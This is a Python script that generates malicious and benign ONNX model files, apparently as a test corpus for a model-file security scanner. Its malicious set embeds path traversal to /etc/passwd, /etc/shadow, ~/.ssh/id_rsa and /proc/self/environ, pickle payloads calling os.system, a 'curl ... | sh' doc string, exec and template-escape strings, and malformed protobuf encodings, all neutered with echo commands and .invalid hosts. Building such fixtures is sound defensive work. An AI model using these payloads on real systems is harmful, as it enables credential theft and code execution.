"""ONNX models, sound and hostile. Needs onnx==1.23.2, numpy; writes malicious/ and benign/ beside itself."""
import base64
import pathlib
import pickle
import shutil
import struct

import numpy as np
import onnx
from onnx import TensorProto as T
from onnx import helper as h
from onnx import numpy_helper as nh

HERE = pathlib.Path(__file__).resolve().parent
BAD, GOOD = HERE / "malicious", HERE / "benign"


def info(name, shape=(1, 4), kind=T.FLOAT):
    return h.make_tensor_value_info(name, kind, shape)


def model(nodes, initializers=(), inputs=None, outputs=None, domains=(), functions=(), opset=17, **more):
    graph = h.make_graph(list(nodes), "g", inputs or [info("x")], outputs or [info("y")], list(initializers))
    sets = [h.make_opsetid("", opset)] + [h.make_opsetid(d, 1) for d in domains]
    made = h.make_model(graph, opset_imports=sets, functions=list(functions), producer_name="corpus", ir_version=8)
    for key, value in more.items():
        setattr(made, key, value)
    return made


def relu():
    return h.make_node("Relu", ["x"], ["y"])


def external(location=None, **entries):
    """A Gemm whose weight lies in another file."""
    tensor = T(name="w", dims=[4, 4], data_type=T.FLOAT, data_location=T.EXTERNAL)
    pairs = ([("location", location)] if location is not None else []) + list(entries.items())
    for key, value in pairs:
        tensor.external_data.add(key=key, value=value)
    return model([h.make_node("MatMul", ["x", "w"], ["y"])], [tensor])


def save(folder, name, content):
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content if isinstance(content, bytes) else content.SerializeToString(deterministic=True))


def varint(value):
    out = bytearray()
    while value >= 0x80:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes(out + bytes([value]))


def field(number, content):
    return varint(number << 3 | 2) + varint(len(content)) + content


class Shout:
    def __reduce__(self):
        return (print, ("never loaded",))


class Run:
    def __reduce__(self):
        import os
        return (os.system, ("echo never run",))


def pickled():
    # The module's name as Linux knows it, wherever this runs.
    return b"cposix\nsystem\n(S'echo never run'\ntR."


def malicious():
    bad = lambda name, content: save(BAD, name, content)
    # --- data in other files
    bad("external_traversal.onnx", external("../../../etc/passwd", offset="0", length="64"))
    bad("external_traversal_inside.onnx", external("weights/../../secret.bin"))
    bad("external_backslashes.onnx", external("..\\..\\secret.bin"))
    bad("external_absolute.onnx", external("/etc/shadow"))
    bad("external_drive.onnx", external("C:\\Users\\a\\w.bin"))
    bad("external_unc.onnx", external("\\\\host.invalid\\share\\w.bin"))
    bad("external_url.onnx", external("https://weights.invalid/w.bin"))
    bad("external_file_url.onnx", external("file:///etc/hostname"))
    bad("external_home.onnx", external("~/.ssh/id_rsa"))
    bad("external_nul.onnx", external("w.bin\x00/../../../etc/passwd"))
    bad("external_env.onnx", external("${HOME}/w.bin"))
    bad("external_memory_address.onnx", external("*/_ORT_MEM_ADDR_/*", offset="140737488355328", length="64"))
    bad("external_key_file.onnx", external("server.pem"))
    bad("external_hidden.onnx", external(".git/config"))
    bad("external_proc.onnx", external("data/proc/../../../proc/self/environ"))
    bad("external_trailing_dots.onnx", external(".. /.. /w.bin"))
    bad("external_no_location.onnx", external(None, offset="0"))
    bad("external_empty_location.onnx", external(""))
    bad("external_offset_negative.onnx", external("w.bin", offset="-1", length="64"))
    bad("external_offset_text.onnx", external("w.bin", offset="0x10", length="64"))
    bad("external_overflow.onnx", external("w.bin", offset="9223372036854775800", length="64"))
    bad("external_length_lie.onnx", external("w.bin", offset="0", length="1048576"))
    bad("external_unknown_key.onnx", external("w.bin", offset="0", length="64", file_mode="wb"))
    bad("external_dunder_key.onnx", external("w.bin", length="64", __class__="x"))
    twice = external("w.bin")
    twice.graph.initializer[0].external_data.add(key="location", value="v.bin")
    bad("external_location_twice.onnx", twice)
    both = external("w.bin")
    both.graph.initializer[0].raw_data = bytes(64)
    bad("external_and_raw.onnx", both)
    # --- where external data hides
    hidden = external("../up.bin").graph.initializer[0]
    constant = h.make_node("Constant", [], ["w"])
    constant.attribute.add(name="value", type=onnx.AttributeProto.TENSOR).t.CopyFrom(hidden)
    bad("external_in_attribute.onnx", model([constant, h.make_node("Add", ["x", "w"], ["y"])]))
    then = h.make_graph([constant, h.make_node("Identity", ["w"], ["z"])], "then", [], [info("z", (4, 4))])
    other = h.make_graph([h.make_node("Identity", ["x"], ["z"])], "else", [], [info("z")])
    bad("external_in_branch.onnx", model([h.make_node("If", ["c"], ["y"], then_branch=then, else_branch=other)],
                                         inputs=[info("x"), info("c", (1,), T.BOOL)]))
    function = h.make_function("local", "F", ["a"], ["b"], [constant, h.make_node("Add", ["a", "w"], ["b"])], [h.make_opsetid("", 17)])
    bad("external_in_function.onnx", model([h.make_node("F", ["x"], ["y"], domain="local")], domains=["local"], functions=[function]))
    trained = model([relu()])
    trained.training_info.add().algorithm.initializer.add().CopyFrom(hidden)
    bad("external_in_training.onnx", trained)
    sparse = model([relu()])
    sparse.graph.sparse_initializer.add().values.CopyFrom(hidden)
    bad("external_in_sparse.onnx", sparse)
    # --- operators
    for name, domain in [("PyOp", "com.microsoft"), ("PythonOp", "com.microsoft"), ("PyOp", "ai.onnx.contrib"), ("PythonOp", "org.pytorch.aten")]:
        bad(f"operator_{name}_{domain}.onnx".lower(),
            model([h.make_node(name, ["x"], ["y"], domain=domain, module="os", class_name="system", func_name="os.system")], domains=[domain]))
    bad("operator_custom_domain.onnx", model([h.make_node("Encode", ["x"], ["y"], domain="com.evil.ops")], domains=["com.evil.ops"]))
    bad("operator_custom_unimported.onnx", model([h.make_node("Encode", ["x"], ["y"], domain="com.evil.ops")]))
    bad("operator_imported_only.onnx", model([relu()], domains=["my.native.library"]))
    bad("operator_lookalike_domain.onnx", model([h.make_node("Relu", ["x"], ["y"], domain="ai.onnx ")], domains=["ai.onnx "]))
    bad("operator_unknown_standard.onnx", model([h.make_node("LoadLibrary", ["x"], ["y"])]))
    bad("operator_contrib_custom.onnx", model([h.make_node("my_py_op", ["x"], ["y"], domain="ai.onnx.contrib")], domains=["ai.onnx.contrib"]))
    bad("operator_aten_from_file.onnx", model([h.make_node("ATen", ["x"], ["y"], domain="org.pytorch.aten", operator="from_file")], domains=["org.pytorch.aten"]))
    inner = h.make_graph([h.make_node("Encode", ["x"], ["z"], domain="com.evil.ops")], "body", [], [info("z")])
    bad("operator_in_branch.onnx", model([h.make_node("If", ["c"], ["y"], then_branch=inner, else_branch=other)], inputs=[info("x"), info("c", (1,), T.BOOL)]))
    bad("operator_local_missing.onnx", model([h.make_node("G", ["x"], ["y"], domain="local.fns")], domains=["local.fns"], functions=[
        h.make_function("local.fns", "F", ["a"], ["b"], [h.make_node("Relu", ["a"], ["b"])], [h.make_opsetid("", 17)])]))
    bad("context_path.onnx", model([h.make_node("EPContext", ["x"], ["y"], domain="com.microsoft", embed_mode=0, ep_cache_context="../../lib/engine.bin")], domains=["com.microsoft"]))
    # --- functions
    shadow = h.make_function("", "Relu", ["a"], ["b"], [h.make_node("Neg", ["a"], ["b"])], [h.make_opsetid("", 17)])
    bad("function_shadows_relu.onnx", model([relu()], functions=[shadow]))
    shadow_ml = h.make_function("ai.onnx.ml", "Scaler", ["a"], ["b"], [h.make_node("Neg", ["a"], ["b"])], [h.make_opsetid("", 17)])
    bad("function_shadows_ml.onnx", model([h.make_node("Scaler", ["x"], ["y"], domain="ai.onnx.ml")], domains=["ai.onnx.ml"], functions=[shadow_ml]))
    loop = h.make_function("local", "F", ["a"], ["b"], [h.make_node("F", ["a"], ["b"], domain="local")], [h.make_opsetid("local", 1)])
    bad("function_recursive.onnx", model([h.make_node("F", ["x"], ["y"], domain="local")], domains=["local"], functions=[loop]))
    tower = []
    for i in range(40):
        callee = ("Relu", "") if i == 0 else (f"F{i - 1}", "local")
        tower.append(h.make_function("local", f"F{i}", ["a"], ["b"], [h.make_node(callee[0], ["a"], ["t"], domain=callee[1]),
                     h.make_node(callee[0], ["t"], ["b"], domain=callee[1])], [h.make_opsetid("", 17), h.make_opsetid("local", 1)]))
    bad("function_tower.onnx", model([h.make_node("F39", ["x"], ["y"], domain="local")], domains=["local"], functions=tower))
    same = h.make_function("local", "F", ["a"], ["b"], [h.make_node("Relu", ["a"], ["b"])], [h.make_opsetid("", 17)])
    bad("function_twice.onnx", model([h.make_node("F", ["x"], ["y"], domain="local")], domains=["local"], functions=[same, same]))
    # --- tensors
    def tensor(**fields):
        return model([h.make_node("Add", ["x", "w"], ["y"])], [T(name="w", **fields)])
    bad("tensor_negative_extent.onnx", tensor(dims=[-4, 4], data_type=T.FLOAT, raw_data=bytes(64)))
    bad("tensor_overflow.onnx", tensor(dims=[2**62, 16], data_type=T.FLOAT, raw_data=bytes(64)))
    bad("tensor_short_raw.onnx", tensor(dims=[1024, 1024], data_type=T.FLOAT, raw_data=bytes(64)))
    bad("tensor_long_raw.onnx", tensor(dims=[4], data_type=T.FLOAT, raw_data=bytes(4096)))
    bad("tensor_short_floats.onnx", tensor(dims=[1000], data_type=T.FLOAT, float_data=[1.0]))
    bad("tensor_bomb.onnx", tensor(dims=[2**30, 64], data_type=T.INT64, int64_data=[1]))
    bad("tensor_type.onnx", tensor(dims=[4], data_type=9999, raw_data=bytes(16)))
    bad("tensor_rank.onnx", tensor(dims=[1] * 300, data_type=T.FLOAT, raw_data=bytes(4)))
    bad("tensor_pickle.onnx", tensor(dims=[len(pickled())], data_type=T.UINT8, raw_data=pickled()))
    elf = b"\x7fELF\x02\x01\x01" + bytes(57)
    bad("tensor_elf.onnx", tensor(dims=[len(elf)], data_type=T.UINT8, raw_data=elf))
    bad("tensor_strings.onnx", tensor(dims=[1], data_type=T.STRING, string_data=[b"\x80\x04" + pickle.dumps(Run(), 4)[2:]]))
    # --- text
    bad("doc_code.onnx", model([relu()], doc_string="__import__('os').system('echo never run')"))
    bad("doc_shell.onnx", model([relu()], doc_string="Install with: curl https://setup.invalid/i.sh | sh"))
    bad("doc_pickle_base64.onnx", model([relu()], doc_string=base64.b64encode(pickled()).decode()))
    noted = model([relu()])
    noted.metadata_props.add(key="loader", value="exec(compile(open('x').read(), 'x', 'exec'))")
    bad("metadata_code.onnx", noted)
    template = model([relu()])
    template.metadata_props.add(key="chat_template", value="{{ ''.__class__.__mro__[1].__subclasses__() }}")
    bad("metadata_template.onnx", template)
    binary = model([h.make_node("Relu", ["x"], ["y"], payload=pickled())])
    bad("attribute_pickle.onnx", binary)
    bad("attribute_code.onnx", model([h.make_node("Relu", ["x"], ["y"], hook="import os; os.system('echo never run')")]))
    options = model([relu()])
    options.metadata_props.add(key="ort_config", value='{"session_options": {"register_custom_ops_library": "./x.so"}}')
    bad("metadata_session_options.onnx", options)
    # --- encoding
    plain = model([relu()]).SerializeToString(deterministic=True)
    evil = external("../up.bin").graph.SerializeToString(deterministic=True)
    bad("graph_twice.onnx", plain + field(7, evil))
    bad("graph_hidden_first.onnx", field(7, evil) + plain)
    bad("overlong_tag.onnx", b"\x88\x80\x00\x08" + plain[2:])
    bad("truncated.onnx", plain[:-20])
    bad("trailing_bytes.onnx", plain + b"\xff\xff\xff\xff\xff")
    bad("unknown_fields_first_as_bin.bin", field(1000, b"junk") * 3 + external("../../x.bin").SerializeToString(deterministic=True))
    bad("without_extension", external("/etc/passwd").SerializeToString(deterministic=True))
    bad("unknown_field_pickle.onnx", plain + field(999, pickled()))
    deep = field(1, relu().SerializeToString())
    for _ in range(60):
        deep = field(1, field(4, b"If") + field(1, b"c") + field(5, field(1, b"then_branch") + field(6, deep)))
    bad("nesting.onnx", b"\x08\x08" + field(8, b"\x10\x11") + field(7, deep))


def benign():
    good = lambda name, content: save(GOOD, name, content)
    rng = np.random.default_rng(0)
    weight = nh.from_array(rng.standard_normal((4, 4)).astype(np.float32), "w")
    good("relu.onnx", model([relu()]))
    good("matmul.onnx", model([h.make_node("MatMul", ["x", "w"], ["y"])], [weight]))
    good("matmul_typed_data.onnx", model([h.make_node("MatMul", ["x", "w"], ["y"])], [h.make_tensor("w", T.FLOAT, [4, 4], [0.5] * 16)]))
    good("external.onnx", external("external.onnx.data", offset="0", length="64"))
    good("external_checksum.onnx", external("model.onnx_data", offset="4096", length="64", checksum="da39a3ee5e6b4b0d3255bfef95601890afd80709"))
    good("external_subfolder.onnx", external("weights/w.bin"))
    good("external_onnx_name.onnx", external("onnx__MatMul_12"))
    good("named.bin", model([relu()]))
    good("no_extension", model([h.make_node("MatMul", ["x", "w"], ["y"])], [weight]))
    for opset in (7, 9, 11, 13, 18, 21):
        good(f"opset{opset}.onnx", model([h.make_node("Gemm", ["x", "w", "b"], ["y"])],
                                         [weight, nh.from_array(np.zeros(4, np.float32), "b")], opset=opset))
    # what sklearn, quantisers, tf2onnx and torch exporters write
    good("ml_trees.onnx", model([h.make_node("TreeEnsembleClassifier", ["x"], ["l", "y"], domain="ai.onnx.ml", class_ids=[0], class_nodeids=[1],
         class_treeids=[0], class_weights=[1.0], classlabels_int64s=[0, 1], nodes_falsenodeids=[2, 0, 0], nodes_featureids=[0, 0, 0],
         nodes_hitrates=[1.0] * 3, nodes_missing_value_tracks_true=[0] * 3, nodes_modes=["BRANCH_LEQ", "LEAF", "LEAF"], nodes_nodeids=[0, 1, 2],
         nodes_treeids=[0] * 3, nodes_truenodeids=[1, 0, 0], nodes_values=[0.5, 0, 0], post_transform="NONE")], domains=["ai.onnx.ml"]))
    good("ml_labels.onnx", model([h.make_node("LabelEncoder", ["x"], ["y"], domain="ai.onnx.ml", keys_strings=["setosa", "versicolor", "eval", "<script>"], values_int64s=[0, 1, 2, 3])], domains=["ai.onnx.ml"]))
    good("ml_tfidf.onnx", model([h.make_node("TfIdfVectorizer", ["x"], ["y"], mode="TF", min_gram_length=1, max_gram_length=1, max_skip_count=0,
         ngram_counts=[0], ngram_indexes=[0, 1], pool_strings=["import os", "exec("])], inputs=[info("x", (1,), T.STRING)]))
    good("quantised.onnx", model([h.make_node("DynamicQuantizeMatMul", ["x", "w", "s"], ["y"], domain="com.microsoft")],
         [nh.from_array(rng.integers(0, 255, (4, 4), dtype=np.uint8), "w"), nh.from_array(np.float32(0.1), "s")], domains=["com.microsoft", "ai.onnx.ml", "com.microsoft.nchwc"]))
    good("qdq.onnx", model([h.make_node("QuantizeLinear", ["x", "s", "z"], ["q"]), h.make_node("DequantizeLinear", ["q", "s", "z"], ["y"])],
         [nh.from_array(np.float32(0.1), "s"), nh.from_array(np.int8(0), "z")]))
    good("int4.onnx", model([h.make_node("DequantizeLinear", ["w", "s"], ["y"])], [h.make_tensor("w", T.INT4, [5], bytes(3), raw=True), nh.from_array(np.float32(1), "s")], opset=21))
    good("bfloat16.onnx", model([h.make_node("Cast", ["w"], ["y"], to=T.FLOAT)], [h.make_tensor("w", T.BFLOAT16, [4], bytes(8), raw=True)]))
    good("float8.onnx", model([h.make_node("Cast", ["w"], ["y"], to=T.FLOAT)], [h.make_tensor("w", T.FLOAT8E4M3FN, [4], bytes(4), raw=True)], opset=19))
    good("scalar_and_empty.onnx", model([h.make_node("Add", ["x", "a"], ["y"])], [nh.from_array(np.float32(1), "a"), nh.from_array(np.zeros((0, 3), np.float32), "e")]))
    fn = h.make_function("pkg.onnxscript.torch_lib", "aten_gelu", ["a"], ["b"], [h.make_node("Erf", ["a"], ["b"])], [h.make_opsetid("", 17)])
    good("torch_lib_functions.onnx", model([h.make_node("aten_gelu", ["x"], ["y"], domain="pkg.onnxscript.torch_lib")],
         domains=["pkg.onnxscript.torch_lib", "pkg.onnxscript.torch_lib.common"], functions=[fn]))
    own = h.make_function("my.company.blocks", "Block", ["a"], ["b"], [h.make_node("Relu", ["a"], ["b"])], [h.make_opsetid("", 17)])
    good("local_functions.onnx", model([h.make_node("Block", ["x"], ["t"], domain="my.company.blocks"), h.make_node("Block", ["t"], ["y"], domain="my.company.blocks")], domains=["my.company.blocks"], functions=[own]))
    branch = lambda op: h.make_graph([h.make_node(op, ["x"], ["z"])], op, [], [info("z")])
    good("if.onnx", model([h.make_node("If", ["c"], ["y"], then_branch=branch("Relu"), else_branch=branch("Neg"))], inputs=[info("x"), info("c", (1,), T.BOOL)]))
    body = h.make_graph([h.make_node("Identity", ["cond"], ["out"]), h.make_node("Relu", ["s"], ["t"])], "body",
                        [info("i", (), T.INT64), info("cond", (), T.BOOL), info("s")], [info("out", (), T.BOOL), info("t")])
    good("loop.onnx", model([h.make_node("Loop", ["n", "", "x"], ["y"], body=body)], [nh.from_array(np.int64(3), "n")]))
    documented = model([relu()], doc_string="A model of the corpus. See https://example.org/card.")
    documented.graph.node[0].doc_string = "/usr/lib/python3.11/site-packages/torch/nn/modules/module.py(1508): _slow_forward\nmodel.eval()"
    documented.metadata_props.add(key="names", value="{0: 'person', 1: 'bicycle'}")
    documented.metadata_props.add(key="stride", value="32")
    documented.graph.node[0].metadata_props.add(key="pkg.torch.onnx.stack_trace", value='File "train.py", line 3, in forward\n    return torch.relu(x)')
    good("documented.onnx", documented)
    good("aten_fallback.onnx", model([h.make_node("ATen", ["x"], ["y"], domain="org.pytorch.aten", operator="embedding", overload_name="")], domains=["org.pytorch.aten"]))
    good("tokenizer_extension.onnx", model([h.make_node("BertTokenizer", ["x"], ["y"], domain="ai.onnx.contrib", vocab="[PAD]\n[UNK]\nhello\nworld\n")], domains=["ai.onnx.contrib"], inputs=[info("x", (1,), T.STRING)]))
    strings = model([h.make_node("Identity", ["w"], ["y"])], [T(name="w", dims=[3], data_type=T.STRING, string_data=[b"a", b"b", b"rm"])])
    good("strings.onnx", strings)
    sparse = model([relu()])
    sparse.graph.sparse_initializer.append(h.make_sparse_tensor(h.make_tensor("v", T.FLOAT, [2], [1.0, 2.0]), h.make_tensor("i", T.INT64, [2], [0, 5]), [10]))
    good("sparse.onnx", sparse)
    good("many_nodes.onnx", model([h.make_node("Relu", ["x" if i == 0 else f"t{i - 1}"], ["y" if i == 49 else f"t{i}"]) for i in range(50)]))
    dynamic = model([relu()], inputs=[info("x", ("batch", None))], outputs=[info("y", ("batch", None))])
    good("dynamic_shapes.onnx", dynamic)


if __name__ == "__main__":
    for folder in (BAD, GOOD):
        shutil.rmtree(folder, ignore_errors=True)
    malicious()
    benign()
